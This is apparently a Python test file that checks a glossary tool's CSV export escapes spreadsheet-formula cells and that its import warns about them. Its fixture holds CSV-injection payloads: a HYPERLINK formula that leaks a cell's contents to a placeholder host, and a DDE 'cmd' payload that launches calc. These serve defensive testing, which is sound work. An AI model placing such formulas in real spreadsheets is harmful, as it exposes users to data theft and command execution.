"""CSV formula injection (issue 13, item 5; OWASP "CSV Injection"): `glossary export --format csv` never writes a
cell a spreadsheet would run as a formula, `glossary import` warns about such cells, and the `'` the export adds
is taken back on import so that a round trip changes no character."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from click.testing import CliRunner
from hypothesis import example, given
from hypothesis import strategies as st

from pipeline.cli.glossary import glossary as glossary_cli
from pipeline.glossary import load_glossary
from pipeline.glossary.formats import FORMATS
from pipeline.glossary.formats.spreadsheet_cells import FORMULA_STARTS, escape, unescape

HOSTILE = """\
entries:
  - id: hyperlink
    english: '=HYPERLINK("http://example.invalid/?leak="&A1,"Kumamoto")'
    targets: {zh-TW: '+熊本大學', ja: '@熊本大学'}
    note: "-2+3+cmd|' /C calc'!A0"
  - id: san-suffix
    english: "-san"
    targets: {ja: "-さん"}
    variants: ["\\tTabbed", "'=already quoted"]
  - id: hertogenbosch
    english: "'s-Hertogenbosch"
    targets: {zh-TW: 斯海爾托亨博斯}
"""


def _invoke(*args):
    return CliRunner().invoke(glossary_cli, [str(a) for a in args], catch_exceptions=False)


def _cells(path: Path) -> list[str]:
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    return [cell for row in rows[1:] for cell in row]


def test_export_never_writes_a_cell_a_spreadsheet_would_run(tmp_path):
    source = tmp_path / "hostile.yaml"
    source.write_text(HOSTILE, encoding="utf-8")
    out = tmp_path / "glossary.csv"
    result = _invoke("export", source, "--format", "csv", "-o", out)
    assert result.exit_code == 0, result.output
    cells = _cells(out)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Kumamoto\")" in cells
    assert {"'+熊本大學", "'@熊本大学", "'-2+3+cmd|' /C calc'!A0", "'-san", "'-さん"} <= set(cells)
    assert "'s-Hertogenbosch" in cells  # an apostrophe before an ordinary letter is left alone


def test_export_then_import_gives_back_every_character(tmp_path):
    source = tmp_path / "hostile.yaml"
    source.write_text(HOSTILE, encoding="utf-8")
    exported = tmp_path / "glossary.csv"
    assert _invoke("export", source, "--format", "csv", "-o", exported).exit_code == 0
    back = tmp_path / "back.yaml"
    result = _invoke("import", exported, "-o", back)
    assert result.exit_code == 0, result.output
    assert "Warning" not in result.output  # every formula-like cell came escaped
    original = {e.id: e for e in load_glossary(source).entries}
    again = {e.id: e for e in load_glossary(back).entries}
    for key, entry in original.items():
        assert (again[key].english, again[key].targets, again[key].variants, again[key].note) == (
            entry.english, entry.targets, entry.variants, entry.note)  # fmt: skip
    assert again["san-suffix"].variants == ["\tTabbed", "'=already quoted"]


def test_import_warns_about_formula_cells_and_keeps_them_as_written(tmp_path):
    sheet = tmp_path / "from-excel.csv"
    sheet.write_text(
        "id,english,zh-TW,note\n"
        'kmu,Kaohsiung Medical University,高雄醫學大學,"=HYPERLINK(""http://x.invalid"",""click"")"\n'
        "sama,-sama,-樣,\n"
        "quoted,Quoted,'@not a formula,\n",
        encoding="utf-8",
    )
    out = tmp_path / "kmu.yaml"
    result = _invoke("import", sheet, "-o", out)
    assert result.exit_code == 0, result.output
    warnings = [line for line in result.output.splitlines() if line.startswith("Warning:")]
    assert len(warnings) == 3, result.output
    assert f"{sheet}:2: column 'note' starts with '='" in warnings[0] and "formula" in warnings[0]
    assert f"{sheet}:3: column 'english' starts with '-'" in warnings[1]
    assert f"{sheet}:3: column 'zh-TW' starts with '-'" in warnings[2]
    entries = {e.id: e for e in load_glossary(out).entries}
    assert entries["kmu"].note == '=HYPERLINK("http://x.invalid","click")'
    assert entries["sama"].english == "-sama"
    assert entries["quoted"].targets["zh-TW"] == "@not a formula"  # the spreadsheet's text marker taken off
    check = _invoke("check", sheet, "--require-langs", "zh-TW")
    assert "warning: csv-formula" in check.output and check.exit_code == 0, check.output


@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r'aé熊 ")) | st.characters(), max_size=12))
@example("'")
@example("''")
@example("'=")
@example("'s")
def test_escape_round_trips_and_is_never_a_formula(text):
    written = escape(text)
    assert not written.startswith(FORMULA_STARTS)
    assert unescape(written) == (text, False)


def test_the_csv_reader_and_writer_round_trip_a_formula_like_entry(tmp_path):
    source = tmp_path / "hostile.yaml"
    source.write_text(HOSTILE, encoding="utf-8")
    entries = load_glossary(source).entries
    path = tmp_path / "g.csv"
    path.write_bytes(FORMATS["csv"].dumps(entries))
    read, problems = FORMATS["csv"].read(path)
    assert problems == []
    assert [(e.english, e.targets, e.note) for e in read] == [(e.english, e.targets, e.note) for e in entries]
